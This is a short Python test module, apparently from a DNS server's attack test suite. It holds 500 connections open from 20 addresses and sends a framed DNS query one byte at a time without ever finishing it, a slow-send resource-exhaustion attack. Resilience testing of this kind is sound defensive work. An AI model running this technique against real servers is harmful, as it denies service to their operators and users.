"""Queries that come an octet at a time, and never to their end."""

import time

from tests.attacks.target import Target, connections
from tests.attacks.zone import framed, query

WHAT = "500 connections x an octet of a query at a time"


def run(target: Target) -> None:
    """From 20 addresses."""
    message = framed(query("www.example.org"))
    with connections(target, 500, clients=20) as socks:
        target.begin()
        for octet in message[:-1]:
            for sock in socks:
                try:
                    sock.send(bytes((octet,)))
                    target.counted["sent"] += 1
                except OSError:
                    target.counted["closed"] += 1
            time.sleep(0.05)
            if target.over():
                return
        while not target.over():
            time.sleep(0.1)
